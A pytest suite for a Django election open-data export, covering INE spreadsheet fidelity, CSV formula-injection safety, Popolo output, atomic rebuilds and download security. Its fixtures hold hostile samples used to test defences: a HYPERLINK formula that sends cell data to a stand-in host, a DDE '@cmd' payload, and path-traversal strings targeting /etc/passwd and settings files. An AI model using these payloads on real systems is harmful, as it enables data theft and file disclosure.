"""Open-data audit: INE fidelity, spreadsheet safety, Popolo, regeneration, atomic files, downloads.

Each test states the rule it holds; the fixtures build native candidacies (not imported from INE)
so that the conventions INE's own file shows are checked on data we capture ourselves.
"""

import csv
import datetime as dt
import hashlib
import json
import os
import re
import threading
import zipfile
from pathlib import Path

from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.urls import reverse

import pytest
from openpyxl import load_workbook

from candidates.choices import FormulaRole, Sex
from candidates.factories import CandidacyPageFactory
from elections.factories import DistrictFactory
from opendata import ine, publication
from opendata.publication import FILES, publish_open_data, read_manifest, write_open_data

from .factories_helpers import answer_identity, draft, portrait, published

REFERENCE = Path("/work/shared/reference/ine-conoceles-2022-anon.xls")
NAMES = [f.name for f in FILES]
XLSX_NAMES = ("candidaturas.xlsx", "conoceles.xlsx")
LONG = " ".join(["Texto de relleno para alcanzar la extensión mínima del cuestionario."] * 6)
FORMULAS = {
    "motivation": '=HYPERLINK("https://malo.example/robo?d="&A1,"Ver más")' + LONG,
    "gender_proposal": "+SUM(1,2) " + LONG,
    "campaign_street": "-2+3",
    "campaign_neighborhood": "@SUM(A1:A9)",
}
CONTROL = "Línea uno\x0bLínea dos\x1fy\x08más\x0ctexto " + LONG


@pytest.fixture(autouse=True)
def forget_renditions():
    cache.clear()


def _rows(path, sheet=None):
    book = load_workbook(path, read_only=True)
    sheet = book[sheet] if sheet else book.worksheets[0]
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def _csv(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def _all_text(directory):
    """Every file's text, the spreadsheets as their cells."""
    parts = []
    for name in NAMES:
        path = Path(directory) / name
        if name.endswith(".xlsx"):
            book = load_workbook(path, read_only=True)
            for sheet in book.worksheets:
                for row in sheet.iter_rows(values_only=True):
                    parts.extend(str(v) for v in row if v is not None)
        else:
            parts.append(path.read_text(encoding="utf-8-sig"))
    return "\n".join(parts)


@pytest.fixture
def native(tree, offices, process):
    """Native candidacies in every INE shape: governorship, an MR fórmula (propietaria and her
    suplente), an RP list member, one with an untouched questionnaire, one with consent."""
    _page, actors = tree
    district = DistrictFactory(process=process, number=5, head_town="Monclova")
    governor = published(actors["PAN"], offices["gubernatura"], title="Gabriela Gobierno Uno")
    suplente = published(
        actors["PRI"],
        offices["diputacion-mr"],
        district=district,
        title="Sara Suplente Dos",
        formula_role=FormulaRole.SUBSTITUTE,
        sex=Sex.WOMAN,
    )
    owner = published(
        actors["PRI"],
        offices["diputacion-mr"],
        district=district,
        title="Paula Propietaria Tres",
        sex=Sex.WOMAN,
        substitute=suplente,
    )
    listed = published(
        actors["PAN"], offices["diputacion-rp"], title="Rita Lista Cuatro", list_position=2
    )
    blank = CandidacyPageFactory(
        parent=actors["PAN"],
        office=offices["diputacion-mr"],
        district=district,
        title="Vicente Vacío Cinco",
        sex=Sex.MAN,
        publish=True,
    )
    answer_identity(owner, publication=True)
    answer_identity(governor, publication=False, statistics=True)
    return {
        "governor": governor,
        "owner": owner,
        "suplente": suplente,
        "listed": listed,
        "blank": blank,
    }


# --- 1. conoceles.xlsx against INE's reference file -------------------------------------------


def _reference():
    import xlrd

    return xlrd.open_workbook(str(REFERENCE))


needs_reference = pytest.mark.skipif(not REFERENCE.exists(), reason="reference file not present")


@needs_reference
@pytest.mark.django_db
def test_ine_sheets_and_headers_are_the_references(native, tmp_path):
    write_open_data(tmp_path)
    reference = _reference()
    book = load_workbook(tmp_path / "conoceles.xlsx", read_only=True)
    assert book.sheetnames == reference.sheet_names()
    for name in reference.sheet_names():
        header = _rows(tmp_path / "conoceles.xlsx", name)[0]
        assert header == reference.sheet_by_name(name).row_values(0)  # trailing space included


@needs_reference
@pytest.mark.django_db
def test_ine_cell_types_and_vocabularies_are_the_references(native, tmp_path):
    """Per column, every kind of cell we write (text, number, empty) is one INE writes there, and
    the closed vocabularies take INE's values: a blank NUM_LISTA_O_FORMULA (INE never leaves one)
    or a mixed-case party name would show here."""
    import xlrd

    write_open_data(tmp_path)
    reference = _reference()
    kinds = {xlrd.XL_CELL_TEXT: "text", xlrd.XL_CELL_NUMBER: "number", xlrd.XL_CELL_EMPTY: "empty"}
    for name in reference.sheet_names():
        sheet = reference.sheet_by_name(name)
        rows = _rows(tmp_path / "conoceles.xlsx", name)[1:]
        assert rows, name
        for column in range(sheet.ncols):
            allowed = {kinds[sheet.cell_type(r, column)] for r in range(1, sheet.nrows)}
            ours = {
                "empty" if v in (None, "") else "number" if isinstance(v, int | float) else "text"
                for v in (row[column] for row in rows)
            }
            assert ours <= allowed, (name, sheet.cell_value(0, column), ours, allowed)
        for column in (1, 4, 8, 10):  # CARGO, CIRCUNSCRIPCION, TIPO_CANDIDATO, SEXO
            vocabulary = set(sheet.col_values(column, 1))
            assert {row[column] for row in rows} <= vocabulary, sheet.cell_value(0, column)
        for row in rows:
            assert row[0] == row[0].upper(), "PARTIDO_COALICION in capitals, as INE writes it"
            assert row[3] == ine.NOT_APPLICABLE or re.fullmatch(r"\d+-[A-ZÁÉÍÓÚÑÜ .]+", row[3])
            assert not any(isinstance(v, dt.date | dt.datetime) for v in row)  # ages, no dates


@pytest.mark.django_db
def test_ine_conventions_row_by_row(native, tmp_path):
    write_open_data(tmp_path)
    header, *rows = _rows(tmp_path / "conoceles.xlsx", ine.CANDIDATES_SHEET)
    by_name = {row[7]: dict(zip(header, row, strict=True)) for row in rows}
    governor = by_name["GABRIELA GOBIERNO UNO"]
    assert governor["DISTRITO LOCAL"] == "No aplica"
    assert governor["MUNICIPIO"] == "No aplica"
    assert governor["CIRCUNSCRIPCION"] == "No aplica"
    assert isinstance(governor["EDAD"], int) and governor["EDAD"] == native["governor"].age
    owner, suplente = by_name["PAULA PROPIETARIA TRES"], by_name["SARA SUPLENTE DOS"]
    assert owner["DISTRITO LOCAL"] == suplente["DISTRITO LOCAL"] == "5-MONCLOVA"
    assert (owner["TIPO_CANDIDATO"], suplente["TIPO_CANDIDATO"]) == ("PROPIETARIA", "SUPLENTE")
    # INE's NUM_LISTA_O_FORMULA is one number per fórmula, shared by propietaria and suplente.
    assert isinstance(owner["NUM_LISTA_O_FORMULA"], int)
    assert owner["NUM_LISTA_O_FORMULA"] == suplente["NUM_LISTA_O_FORMULA"]
    numbers = [r["NUM_LISTA_O_FORMULA"] for n, r in by_name.items() if n != "SARA SUPLENTE DOS"]
    assert len(set(numbers)) == len(numbers)
    listed = by_name["RITA LISTA CUATRO"]
    assert listed["NUM_LISTA_O_FORMULA"] == 2
    assert listed["CIRCUNSCRIPCION"] == "1"  # INE: every local RP row is circumscription "1"
    assert listed["DISTRITO LOCAL"] == "No aplica"
    # Answered questionnaire: an empty field reads "No proporcionó" (the e-mail stays blank).
    assert owner["PAGINA_WEB"] == owner["REDES"] == owner["CURSOS"] == "No proporcionó"
    # Untouched questionnaire: INE's blank cells, except TELEFONO and REDES.
    blank = by_name["VICENTE VACÍO CINCO"]
    assert blank["TELEFONO"] == blank["REDES"] == "No proporcionó"
    assert blank["PROPUESTA_1"] is None and blank["ESCOLARIDAD"] is None
    assert blank["SEXO"] == "HOMBRE" and blank["TIPO_CANDIDATO"] == "PROPIETARIO"


@pytest.mark.django_db
def test_ine_identity_rows_only_with_publication_consent(native, tmp_path):
    write_open_data(tmp_path)
    header, *rows = _rows(tmp_path / "conoceles.xlsx", ine.IDENTITY_SHEET)
    assert [row[7] for row in rows] == ["PAULA PROPIETARIA TRES"]  # governor: statistics only
    answers = rows[0][len(ine.REGISTRATION_COLUMNS) :]
    assert answers[0] == "Sí" and answers[1] == "No"  # INE's words for yes/no
    assert answers[2] == " "  # INE's blank identity cell is a single space
    assert answers[17] == answers[18] == " " or "Reservado" in answers[17:19]
    assert header[3] == "DISTRITOLOCAL"


@pytest.mark.django_db
def test_withdrawing_publication_consent_removes_the_identity_row(
    native, settings, django_capture_on_commit_callbacks
):
    from identity.models import ConsentRecord
    from identity.signals import announce_visibility_change

    publish_open_data()
    target = publication.public_directory()
    assert len(_rows(target / "conoceles.xlsx", ine.IDENTITY_SHEET)) == 2
    owner = native["owner"]
    with django_capture_on_commit_callbacks(execute=True):
        ConsentRecord.objects.filter(candidacy=owner).update(publication=False)
        announce_visibility_change([owner.pk])
    assert len(_rows(target / "conoceles.xlsx", ine.IDENTITY_SHEET)) == 1
    assert {r["grupos"] for r in _csv(target / "candidaturas.csv")} == {""}


@pytest.mark.django_db
def test_income_answers_are_never_individual(tree, offices, tmp_path):
    from identity.exports import apply_ine_identity_row

    from .factories_helpers import IDENTITY_CELLS

    _page, actors = tree
    person = published(actors["PAN"], offices["gubernatura"], title="Irma Ingresos Once")
    cells = list(IDENTITY_CELLS)
    cells[17], cells[18] = "De $25,001 a $50,000", "Negocio propio"
    apply_ine_identity_row(person, cells)  # all three consents, publication included
    write_open_data(tmp_path)
    text = _all_text(tmp_path)
    assert "$25,001" not in text and "Negocio propio" not in text
    header, row = _rows(tmp_path / "conoceles.xlsx", ine.IDENTITY_SHEET)
    assert row[len(ine.REGISTRATION_COLUMNS) + 17 :][:2] == ["Reservado", "Reservado"]
    assert person.birth_date.isoformat() not in text


@pytest.mark.django_db
def test_json_records_hold_the_dictionary_keys_only(native, tmp_path):
    from opendata.dictionary import KEYS

    write_open_data(tmp_path)
    data = json.loads((tmp_path / "candidaturas.json").read_text())
    assert [c["key"] for c in data["campos"]] == KEYS
    assert all(list(record) == KEYS for record in data["candidaturas"])


# --- 2. Spreadsheet safety: BOM, formulas, control characters ----------------------------------


@pytest.mark.django_db
def test_csv_starts_with_a_utf8_bom_for_excel(native, tmp_path):
    write_open_data(tmp_path)
    raw = (tmp_path / "candidaturas.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw[3:].decode("utf-8").startswith("id,nombre,")
    assert "Vicente Vacío Cinco".encode() in raw


@pytest.fixture
def hostile(tree, offices):
    _page, actors = tree
    return published(
        actors["PAN"],
        offices["gubernatura"],
        title="=Nombre Con Igual",
        proposals=[("proposal", {"title": "@cmd|' /C calc'!A0", "description": LONG})] * 2,
        **FORMULAS,
    )


def _sheet_xml(path):
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


@pytest.mark.django_db
def test_no_candidate_text_becomes_a_formula_in_the_spreadsheets(hostile, tmp_path):
    """XLSX: the exact text, stored as a string cell with Excel's quote prefix (the apostrophe
    typed by hand), so it shows as text and stays text if edited; never a formula cell."""
    write_open_data(tmp_path)
    for name in XLSX_NAMES:
        path = tmp_path / name
        assert "<f>" not in _sheet_xml(path), name
        book = load_workbook(path)
        risky = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type in ("s", "n", "inlineStr"), (name, cell.coordinate)
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                        assert cell.quotePrefix, (name, cell.coordinate, cell.value)
                        risky.append(cell.value)
        assert FORMULAS["motivation"] in risky and "-2+3" not in risky  # address: one cell
    header, *rows = _rows(tmp_path / "conoceles.xlsx", ine.CANDIDATES_SHEET)
    row = dict(zip(header, rows[0], strict=True))
    assert row["MOTIVO_CARGO_PUBLICO"] == FORMULAS["motivation"]  # fidelity: not altered
    assert row["NOMBRE_CANDIDATO"] == "=NOMBRE CON IGUAL"
    assert row["PROPUESTA_1"].startswith("@cmd")


@pytest.mark.django_db
def test_csv_neutralizes_formula_triggers_and_json_keeps_the_text(hostile, tmp_path):
    """CSV has no cell types: a text starting with = + - @ (or tab / CR) gets a leading
    apostrophe, OWASP's mitigation; the JSON and Popolo files keep the exact text."""
    write_open_data(tmp_path)
    (row,) = _csv(tmp_path / "candidaturas.csv")
    assert row["motivo"] == "'" + FORMULAS["motivation"]
    assert row["propuesta_genero"] == "'" + FORMULAS["gender_proposal"]
    assert row["propuesta_1"].startswith("'@cmd")
    assert row["nombre"] == "'=Nombre Con Igual"
    assert row["domicilio_campana"].startswith("'-2+3")
    for key, value in row.items():
        assert not value or value[0] not in "=+-@\t\r", key
    assert row["edad"].isdigit() and row["id"].isdigit()  # numbers untouched
    (record,) = json.loads((tmp_path / "candidaturas.json").read_text())["candidaturas"]
    assert record["motivo"] == FORMULAS["motivation"]
    assert record["nombre"] == "=Nombre Con Igual"
    (person,) = json.loads((tmp_path / "popolo.json").read_text())["persons"]
    assert person["name"] == "=Nombre Con Igual"


@pytest.mark.django_db
def test_error_literals_stay_text_in_xlsx(tree, offices, tmp_path):
    _page, actors = tree
    published(actors["PAN"], offices["gubernatura"], campaign_street="#N/A")
    write_open_data(tmp_path)
    for name in XLSX_NAMES:
        for sheet in load_workbook(tmp_path / name).worksheets:
            assert all(c.data_type != "e" for row in sheet.iter_rows() for c in row), name


@pytest.mark.django_db
def test_control_characters_do_not_break_the_export(tree, offices, tmp_path):
    """XML 1.0 (XLSX) cannot hold most C0 controls: they are dropped there (a vertical tab or
    form feed, Word's manual breaks, becomes a line break); CSV and JSON keep the text."""
    _page, actors = tree
    published(
        actors["PAN"], offices["gubernatura"], motivation=CONTROL, campaign_street="Calle\x1e 5"
    )
    manifest = write_open_data(tmp_path)
    assert {entry["rows"] for entry in manifest["files"]} == {1}
    expected = CONTROL.replace("\x0b", "\n").replace("\x0c", "\n").replace("\x1f", "")
    expected = expected.replace("\x08", "")
    header, row = _rows(tmp_path / "conoceles.xlsx", ine.CANDIDATES_SHEET)
    assert dict(zip(header, row, strict=True))["MOTIVO_CARGO_PUBLICO"] == expected
    header, row = _rows(tmp_path / "candidaturas.xlsx", "candidaturas")
    record = dict(zip(header, row, strict=True))
    assert record["motivo"] == expected and record["domicilio_campana"].startswith("Calle 5")
    (record,) = json.loads((tmp_path / "candidaturas.json").read_text())["candidaturas"]
    assert record["motivo"] == CONTROL
    assert _csv(tmp_path / "candidaturas.csv")[0]["motivo"] == CONTROL


@pytest.mark.django_db
def test_a_bad_text_does_not_stop_a_withdrawal_from_reaching_the_files(
    tree, offices, settings, django_capture_on_commit_callbacks
):
    """The rebuild used to die on one illegal character, so every later regeneration failed and
    a withdrawn candidacy stayed in the public files."""
    _page, actors = tree
    withdrawn = published(actors["PRI"], offices["gubernatura"], title="Wendy Retirada Seis")
    publish_open_data()
    with django_capture_on_commit_callbacks(execute=True):
        published(actors["PAN"], offices["gubernatura"], motivation=CONTROL)
    with django_capture_on_commit_callbacks(execute=True):
        withdrawn.unpublish()
    assert withdrawn.title not in _all_text(publication.public_directory())
    assert read_manifest()["files"][0]["rows"] == 1


# --- 3. Popolo ----------------------------------------------------------------------------------

PERSON_KEYS = {"id", "name", "gender", "image", "contact_details", "links", "sources"}


@pytest.mark.django_db
def test_popolo_structure(native, tmp_path):
    native["owner"].photo = portrait("foto-paula")
    native["owner"].save_revision().publish()
    write_open_data(tmp_path)
    popolo = json.loads((tmp_path / "popolo.json").read_text())
    assert set(popolo) == {"persons", "organizations", "memberships", "posts"}
    persons = {p["id"]: p for p in popolo["persons"]}
    organizations = {o["id"]: o for o in popolo["organizations"]}
    posts = {p["id"]: p for p in popolo["posts"]}
    assert len(persons) == len(popolo["persons"]) == 5
    for person in persons.values():
        assert set(person) <= PERSON_KEYS, set(person) - PERSON_KEYS
        assert person["name"] and person["gender"] in {"Mujer", "Hombre", "No binario"}
    assert persons[f"persona-{native['owner'].pk}"]["image"].startswith("http://testserver/")
    for organization in organizations.values():
        assert organization["name"] and organization["classification"]
    for post in posts.values():
        assert post["label"] and post["role"]
        assert post["organization_id"] in organizations
        assert organizations[post["organization_id"]]["classification"] in {
            "executive", "legislature", "municipality",
        }  # fmt: skip
    assert len(popolo["memberships"]) == 5
    for membership in popolo["memberships"]:
        assert membership["person_id"] in persons
        assert membership["post_id"] in posts
        assert membership["organization_id"] == posts[membership["post_id"]]["organization_id"]
        assert membership["on_behalf_of_id"] in organizations
        force = organizations[membership["on_behalf_of_id"]]
        assert force["classification"] in {"party", "coalition", "independent"}
        assert membership["role"]
    by_person = {m["person_id"]: m for m in popolo["memberships"]}
    owner = by_person[f"persona-{native['owner'].pk}"]
    suplente = by_person[f"persona-{native['suplente'].pk}"]
    assert owner["post_id"] == suplente["post_id"]  # one seat, the whole fórmula
    assert (owner["role"], suplente["role"]) == ("Propietaria", "Suplente")


@pytest.mark.django_db
def test_popolo_has_no_private_fields(native, tmp_path):
    write_open_data(tmp_path)
    text = (tmp_path / "popolo.json").read_text()
    for candidacy in native.values():
        assert candidacy.birth_date.isoformat() not in text
        assert candidacy.birth_date.strftime("%d/%m/%Y") not in text
    for word in ("birth", "nacimiento", "Coahuila de Zaragoza", "ingreso", "consent", "identity"):
        assert word not in text, word
    popolo = json.loads(text)
    for person in popolo["persons"]:
        assert {d["type"] for d in person["contact_details"]} <= {"email", "voice"}


@pytest.mark.django_db
def test_popolo_ids_are_stable_between_regenerations(native, tree, offices, tmp_path):
    def ids():
        write_open_data(tmp_path)
        popolo = json.loads((tmp_path / "popolo.json").read_text())
        return {
            "persons": {p["id"]: p["name"] for p in popolo["persons"]},
            "organizations": {o["id"] for o in popolo["organizations"]},
            "posts": {p["id"] for p in popolo["posts"]},
            "memberships": {(m["person_id"], m["post_id"]) for m in popolo["memberships"]},
        }

    first = ids()
    assert ids() == first
    # A catalog correction (a party's or an office's name) must not renumber anything.
    party = native["owner"].party
    party.name = "Partido Con Nombre Corregido"
    party.save()
    office = native["owner"].office
    office.name = "Diputación local de mayoría (corregida)"
    office.save()
    # A new candidacy adds its ids and leaves everybody else's alone.
    _page, actors = tree
    published(actors["PAN"], offices["gubernatura"], title="Nueva Persona Siete")
    after = ids()
    for kind in ("organizations", "posts", "memberships"):
        assert first[kind] <= after[kind], kind
    assert {k: after["persons"][k] for k in first["persons"]} == first["persons"]


# --- 4. Regeneration, the command, atomic replacement ------------------------------------------


@pytest.mark.django_db
def test_unpublished_person_disappears_from_every_file(
    native, settings, django_capture_on_commit_callbacks
):
    publish_open_data()
    target = publication.public_directory()
    assert "Rita Lista Cuatro" in _all_text(target)
    assert "RITA LISTA CUATRO" in _all_text(target)
    with django_capture_on_commit_callbacks(execute=True):
        native["listed"].unpublish()
    text = _all_text(target)
    assert "Rita Lista Cuatro" not in text and "RITA LISTA CUATRO" not in text
    assert f"persona-{native['listed'].pk}" not in text
    assert {e["rows"] for e in read_manifest()["files"]} == {4}


@pytest.mark.django_db
def test_drafts_never_appear(native, tree, offices, tmp_path):
    _page, actors = tree
    secret = draft(actors["PAN"], offices["gubernatura"], title="Dalia Borrador Ocho")
    answer_identity(secret, publication=True)
    write_open_data(tmp_path)
    text = _all_text(tmp_path)
    assert "Dalia Borrador Ocho" not in text and "DALIA BORRADOR OCHO" not in text


@pytest.mark.django_db
def test_a_new_publication_changes_checksums_and_dates(
    native, tree, offices, settings, django_capture_on_commit_callbacks
):
    before = publish_open_data()
    _page, actors = tree
    with django_capture_on_commit_callbacks(execute=True):
        published(actors["PRI"], offices["gubernatura"], title="Nadia Nueva Nueve")
    after = read_manifest()
    assert dt.datetime.fromisoformat(after["generated_at"]) > dt.datetime.fromisoformat(
        before["generated_at"]
    )
    old = {e["name"]: e for e in before["files"]}
    for entry in after["files"]:
        assert entry["sha256"] != old[entry["name"]]["sha256"], entry["name"]
        assert entry["generated_at"] == after["generated_at"]
        assert entry["rows"] == old[entry["name"]]["rows"] + 1
        data = (publication.public_directory() / entry["name"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]
        assert len(data) == entry["bytes"]


@pytest.mark.django_db
def test_command_writes_the_same_files(native, tmp_path, capsys):
    target = tmp_path / "salida"
    call_command("export_open_data", str(target))
    manifest = json.loads((target / "manifest.json").read_text())
    assert [e["name"] for e in manifest["files"]] == NAMES
    out = capsys.readouterr().out
    for entry in manifest["files"]:
        assert entry["sha256"] in out
        assert hashlib.sha256((target / entry["name"]).read_bytes()).hexdigest() == entry["sha256"]


@pytest.mark.django_db
def test_command_errors_are_spanish_command_errors(native, tmp_path, monkeypatch):
    with pytest.raises(CommandError, match="no existe"):
        call_command("export_open_data", str(tmp_path / "falta" / "salida"))
    assert not (tmp_path / "falta").exists()
    a_file = tmp_path / "archivo.txt"
    a_file.write_text("ocupado")
    with pytest.raises(CommandError, match="no es una carpeta"):
        call_command("export_open_data", str(a_file))
    assert a_file.read_text() == "ocupado"
    with pytest.raises(CommandError, match="no es una carpeta"):
        call_command("export_open_data", str(a_file / "dentro"))
    with pytest.raises(CommandError, match="Indica una carpeta"):
        call_command("export_open_data")

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(publication.tempfile, "mkstemp", refuse)
    with pytest.raises(CommandError, match="No se pudo escribir"):
        call_command("export_open_data", str(tmp_path))


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write into a read-only folder")
@pytest.mark.django_db
def test_command_unwritable_folder_for_real(native, tmp_path):
    locked = tmp_path / "cerrada"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        with pytest.raises(CommandError, match="No se puede escribir"):
            call_command("export_open_data", str(locked))
    finally:
        locked.chmod(0o755)


@pytest.mark.django_db
def test_command_unwritable_folder_is_refused_before_writing(native, tmp_path, monkeypatch):
    real_access = os.access
    monkeypatch.setattr(
        publication.os, "access", lambda p, mode: False if mode & os.W_OK else real_access(p, mode)
    )
    with pytest.raises(CommandError, match="No se puede escribir"):
        call_command("export_open_data", str(tmp_path))
    assert not list(tmp_path.iterdir())


def _checksums(directory):
    return {
        name: hashlib.sha256((directory / name).read_bytes()).hexdigest()
        for name in NAMES
        if (directory / name).exists()
    }


@pytest.mark.django_db
def test_public_files_are_replaced_atomically(native, tree, offices, monkeypatch):
    """At every moment of a rebuild each public file is whole, old or new; the folder is never
    missing; files are moved in with os.replace, the manifest last."""
    publish_open_data()
    target = publication.public_directory()
    old = _checksums(target)
    assert set(old) == set(NAMES)
    _page, actors = tree
    published(actors["PAN"], offices["gubernatura"], title="Otra Persona Diez")

    whole = {name: {digest} for name, digest in old.items()}
    moved = []
    real_replace = os.replace

    def watching_replace(src, dst):
        src, dst = Path(src), Path(dst)
        assert dst.parent == target
        if dst.name in whole:
            whole[dst.name].add(hashlib.sha256(src.read_bytes()).hexdigest())
        real_replace(src, dst)
        moved.append(dst.name)
        assert target.is_dir()
        for name, digest in _checksums(target).items():
            assert digest in whole[name], name
        assert set(_checksums(target)) == set(NAMES)

    monkeypatch.setattr(publication.os, "replace", watching_replace)
    manifest = publish_open_data()
    assert sorted(moved[:-1]) == sorted(NAMES) and moved[-1] == "manifest.json"
    assert _checksums(target) == {e["name"]: e["sha256"] for e in manifest["files"]}
    assert not [p for p in target.iterdir() if p.name not in {*NAMES, "manifest.json"}]
    assert not [p for p in target.parent.iterdir() if p.name.startswith("opendata-")]


@pytest.mark.django_db
def test_public_files_are_readable_by_the_web_server(native):
    publish_open_data()
    target = publication.public_directory()
    assert target.stat().st_mode & 0o755 == 0o755
    for name in [*NAMES, "manifest.json"]:
        assert (target / name).stat().st_mode & 0o644 == 0o644, name


@pytest.mark.django_db
def test_a_failed_rebuild_leaves_the_previous_files(native, monkeypatch, tmp_path):
    publish_open_data()
    write_open_data(tmp_path)
    target = publication.public_directory()
    old = _checksums(target)
    old_manifest = (target / "manifest.json").read_text()

    def broken(path, records):
        Path(path).write_text("{medio archivo")
        raise RuntimeError("falla a la mitad")

    monkeypatch.setattr(publication, "write_popolo", broken)
    with pytest.raises(RuntimeError):
        publish_open_data()
    assert _checksums(target) == old
    assert (target / "manifest.json").read_text() == old_manifest
    assert sorted(p.name for p in target.iterdir()) == sorted([*NAMES, "manifest.json"])
    # The command's folder too: old files stay whole, no temporary file is left behind.
    before = _checksums(tmp_path)
    with pytest.raises(RuntimeError):
        write_open_data(tmp_path)
    assert _checksums(tmp_path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*NAMES, "manifest.json"])


@pytest.mark.django_db
def test_leftovers_of_an_interrupted_rebuild_are_removed(native):
    """A killed rebuild's temporary file, or a folder of the former swap scheme, would keep
    serving a snapshot with candidacies withdrawn since; the next publication removes them."""
    publish_open_data()
    target = publication.public_directory()
    stale = target / ".candidaturas.csv.abc123.tmp"
    stale.write_text("id,nombre\n1,Persona Retirada\n")
    for name in ("opendata-previous", "opendata-k2j4h5g6"):
        folder = target.parent / name
        folder.mkdir(exist_ok=True)
        (folder / "candidaturas.csv").write_text("Persona Retirada")
        (folder / "manifest.json").write_text("{}")
    foreign = target.parent / "opendata-ajeno"
    foreign.mkdir(exist_ok=True)
    (foreign / "notas.txt").write_text("no es de datos abiertos")
    unrelated = target / "LEEME.txt"
    unrelated.write_text("de otra persona")
    publish_open_data()
    assert not stale.exists()
    assert not (target.parent / "opendata-previous").exists()
    assert not (target.parent / "opendata-k2j4h5g6").exists()
    assert (foreign / "notas.txt").exists() and unrelated.exists()  # not ours: left alone
    unrelated.unlink()


def test_rebuilds_are_serialized_by_a_file_lock(tmp_path):
    """Two processes rebuilding at once must not interleave their files (an older snapshot
    finishing last would bring back a withdrawn candidacy): the lock is exclusive."""
    lock = tmp_path / "opendata.lock"
    entered = threading.Event()
    release = threading.Event()
    order = []

    def holder():
        with publication.exclusive_lock(lock):
            order.append("first in")
            entered.set()
            release.wait(5)
            order.append("first out")

    import fcntl

    def waiter():
        entered.wait(5)
        with publication.exclusive_lock(lock):
            order.append("second in")

    threads = [threading.Thread(target=holder), threading.Thread(target=waiter)]
    for thread in threads:
        thread.start()
    entered.wait(5)
    threading.Event().wait(0.2)
    assert order == ["first in"]
    # Another process's view: the file lock is taken.
    with open(lock, "a") as other, pytest.raises(BlockingIOError):
        fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
    release.set()
    for thread in threads:
        thread.join(5)
    assert order == ["first in", "first out", "second in"]


# --- 5. Downloads ---------------------------------------------------------------------------------

MEDIA_TYPES = {
    "candidaturas.csv": "text/csv; charset=utf-8",
    "candidaturas.json": "application/json",
    "popolo.json": "application/json",
    "candidaturas.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "conoceles.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


@pytest.mark.django_db
def test_downloads_have_type_disposition_and_the_manifest_bytes(native, client):
    manifest = publish_open_data()
    assert set(MEDIA_TYPES) == set(NAMES)
    for entry in manifest["files"]:
        response = client.get(reverse("opendata:file", args=[entry["name"]]))
        assert response.status_code == 200
        assert response["Content-Type"] == MEDIA_TYPES[entry["name"]]
        assert response["Content-Disposition"] == f'attachment; filename="{entry["name"]}"'
        assert response["X-Content-Type-Options"] == "nosniff"
        body = b"".join(response.streaming_content)
        assert hashlib.sha256(body).hexdigest() == entry["sha256"]
        assert int(response["Content-Length"]) == entry["bytes"]


@pytest.mark.django_db
def test_downloads_refuse_unknown_names_and_traversal(native, client):
    publish_open_data()
    target = publication.public_directory()
    (target / "extra.csv").write_text("no listado")
    base = "/datos-abiertos/archivos/"
    attempts = [
        "manifest.json",
        "extra.csv",
        "otro.csv",
        "CANDIDATURAS.CSV",
        "candidaturas.csv.tmp",
        ".",
        "..",
        "..%2Fmanifest.json",
        "..%2F..%2Fsettings.py",
        "%2e%2e%2fmanifest.json",
        "%2E%2E%2F%2E%2E%2Fdb.sqlite3",
        "..%5Cmanifest.json",
        "..%252Fmanifest.json",
        "archivos%2F..%2Fcandidaturas.csv",
        "%2Fetc%2Fpasswd",
        "candidaturas.csv%00",
        "candidaturas.csv%2F",
        "..;/candidaturas.csv",
        "../../../etc/passwd",
    ]
    for attempt in attempts:
        response = client.get(base + attempt)
        assert response.status_code == 404, attempt
        assert "Content-Disposition" not in response, attempt
    assert client.get(base + "candidaturas.csv").status_code == 200


@pytest.mark.django_db
def test_download_before_any_publication_is_404(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    for name in NAMES:
        assert client.get(reverse("opendata:file", args=[name])).status_code == 404
    assert client.get(reverse("opendata:page")).status_code == 200
